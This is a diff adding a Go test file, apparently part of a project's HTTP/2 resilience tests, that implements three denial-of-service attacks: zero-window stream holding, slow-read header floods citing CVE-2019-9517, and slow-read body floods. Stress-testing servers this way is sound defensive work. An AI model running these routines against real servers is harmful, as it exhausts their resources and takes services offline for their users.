@@ -1,0 +1,90 @@
+// SPDX-FileCopyrightText: The Leat Authors
+// SPDX-License-Identifier: Apache-2.0
+
+//go:build linux
+
+package attack_test
+
+import (
+	"context"
+	"errors"
+	"math"
+	"strings"
+
+	"golang.org/x/net/http2"
+)
+
+// streamsPerConnection is how many streams servers commonly allow at once.
+const streamsPerConnection = 1000
+
+// errClosed says that the server has closed a connection that the attack meant to hold.
+var errClosed = errors.New("the server has closed the connection")
+
+// redirected is a path that a mux redirects, with the query in the answer's head: large answers for small requests.
+var redirected = "//x?" + strings.Repeat("q", 3900)
+
+// zeroWindow asks for many answers and allows no byte of their bodies.
+func zeroWindow(ctx context.Context, v *victim) {
+	v.each(ctx, func(ctx context.Context) error {
+		f, err := v.http2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+		if err != nil {
+			return err
+		}
+		defer f.Close()
+		for range streamsPerConnection {
+			if _, err := f.request(true, "GET", "/metrics"); err != nil {
+				return err
+			}
+		}
+		if err := f.send(func() error { return nil }); err != nil {
+			return err
+		}
+		return f.held(ctx)
+	})
+}
+
+// slowHeads asks for answers that are all head, which no window bounds, and reads a few bytes now and then (CVE-2019-9517).
+func slowHeads(ctx context.Context, v *victim) {
+	v.each(ctx, func(ctx context.Context) error {
+		// Without a table the server cannot shorten what it answers. The requests are of one byte a path, after the first.
+		f, err := v.http2(ctx, http2.Setting{ID: http2.SettingHeaderTableSize, Val: 0})
+		if err != nil {
+			return err
+		}
+		defer f.Close()
+		narrow(f.Conn)
+		ended := make(chan error, 1)
+		go func() { ended <- trickle(ctx, f.Conn) }()
+		for {
+			if _, err := f.request(true, "HEAD", redirected); err != nil {
+				return errors.Join(err, <-ended)
+			}
+		}
+	})
+}
+
+// slowBodies asks for an answer many times, allows all of it, and reads a few bytes now and then.
+func slowBodies(path string) func(context.Context, *victim) {
+	return func(ctx context.Context, v *victim) {
+		v.each(ctx, func(ctx context.Context) error {
+			f, err := v.http2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: math.MaxInt32})
+			if err != nil {
+				return err
+			}
+			defer f.Close()
+			narrow(f.Conn)
+			if err := f.queue(func() error { return f.WriteWindowUpdate(0, math.MaxInt32-1<<16) }); err != nil {
+				return err
+			}
+			for range streamsPerConnection {
+				if _, err := f.request(true, "GET", path); err != nil {
+					return err
+				}
+			}
+			if err := f.send(func() error { return nil }); err != nil {
+				return err
+			}
+			return trickle(ctx, f.Conn)
+		})
+	}
+}
